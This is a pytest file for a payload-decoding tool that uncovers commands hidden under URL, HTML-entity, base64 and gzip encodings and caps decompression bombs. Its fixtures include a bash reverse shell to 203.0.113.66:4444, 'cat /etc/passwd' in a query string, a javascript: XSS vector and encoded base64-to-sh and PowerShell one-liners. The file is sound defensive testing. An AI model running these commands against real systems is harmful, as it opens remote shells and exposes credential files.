"""What a payload hides is shown, and nothing that hides in it can do harm."""

from __future__ import annotations

import base64
import gzip
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.agent.tools.decoding import MOST, MOST_BYTES, decodings

SHELL = b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"

HIDDEN = {
    "url": (b"GET /?c=%63%61%74%20/etc/passwd HTTP/1.1", "url and html", b"cat /etc/passwd"),
    "twice": (b"GET /?c=%2563%2561%2574%20/etc/passwd", "url and html", b"cat /etc/passwd"),
    "entities": (b"<a href=&#106;avascript&colon;alert(1)>", "url and html", b"javascript:alert(1)"),
    "base64": (b"cmd=" + base64.b64encode(SHELL), "base64", SHELL),
    "base64 without padding": (b"echo " + base64.b64encode(SHELL).rstrip(b"=") + b"|base64 -d|sh", "base64", SHELL),
    "base64 of UTF-16": (b"powershell -enc " + base64.b64encode(SHELL.decode().encode("utf-16-le")), "base64", SHELL),
    "URL-safe base64": (base64.urlsafe_b64encode(b"????>>>>" + SHELL), "base64", SHELL),
    "gzip": (b"HTTP/1.1 200 OK\r\n\r\n" + gzip.compress(SHELL), "gzip", SHELL),
    "gzip cut off": (gzip.compress(SHELL * 40)[:-9], "gzip", SHELL),
    "base64 in a URL": (
        b"GET /?c=" + base64.b64encode(SHELL).replace(b"=", b"%3d").replace(b"M", b"%4d"),
        "url and html, base64",
        SHELL,
    ),
    "gzip in base64": (b"x=" + base64.b64encode(gzip.compress(SHELL)), "base64", SHELL),
}


@pytest.mark.parametrize(("payload", "how", "inside"), HIDDEN.values(), ids=HIDDEN.keys())
def test_what_is_hidden_is_found(payload: bytes, how: str, inside: bytes) -> None:
    found = {one.how: one.text for one in decodings(payload)}
    assert inside in found[how]


@pytest.mark.parametrize(
    "payload",
    [
        b"GET /index.html HTTP/1.1\r\nHost: shop.example\r\n\r\n",
        b"SSH-2.0-OpenSSH_9.6\r\n",
        b"internationalisation",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(120, 200)),
        b"",
    ],
    ids=["a request", "a banner", "a long word", "TLS", "nothing"],
)
def test_what_hides_nothing_is_left_as_it_is(payload: bytes) -> None:
    assert decodings(payload) == ()


def test_a_bomb_is_not_unpacked_to_its_end() -> None:
    bomb = zlib.compressobj(9, wbits=31)
    packed = bomb.compress(b"\x20" * 10_000_000) + bomb.flush()
    assert [len(one.text) for one in decodings(packed)] == [MOST_BYTES]


@given(st.binary(max_size=600) | st.text(alphabet="AB%20&#x;=+/\\u", max_size=600).map(str.encode), st.booleans())
def test_no_payload_raises_and_what_comes_out_is_bounded(payload: bytes, form: bool) -> None:
    found = decodings(payload, form=form)
    assert len(found) <= MOST
    assert all(len(one.text) <= MOST_BYTES for one in found)
